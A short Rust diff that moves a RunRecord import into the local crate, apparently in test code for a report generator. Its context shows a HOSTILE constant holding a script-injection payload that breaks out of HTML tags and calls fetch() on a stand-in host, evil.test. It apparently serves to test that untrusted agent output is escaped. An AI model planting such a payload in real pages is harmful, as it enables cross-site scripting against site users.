@@ -3,9 +3,9 @@
 use serde_json::{Value, json};
 use squall_journal::record::ExchangeRecord;
 use squall_journal::redact::Redactor;
-use squall_journal::run::RunRecord;
 
 use super::Report;
+use crate::run::RunRecord;
 
 /// What a hostile agent answers.
 pub(super) const HOSTILE: &str = "</title></style></script><script>fetch('http://evil.test/')</script>\
